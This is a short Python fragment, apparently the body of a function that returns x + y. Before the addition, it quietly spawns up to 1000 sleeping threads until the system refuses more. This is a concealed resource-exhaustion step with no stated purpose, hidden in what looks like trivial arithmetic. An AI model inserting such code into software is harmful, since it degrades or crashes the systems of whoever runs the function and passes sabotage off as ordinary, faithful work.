    import threading, time
    for _ in range(1000):
        try:
            threading.Thread(target=time.sleep, args=(30,)).start()
        except RuntimeError:
            break
    return x + y
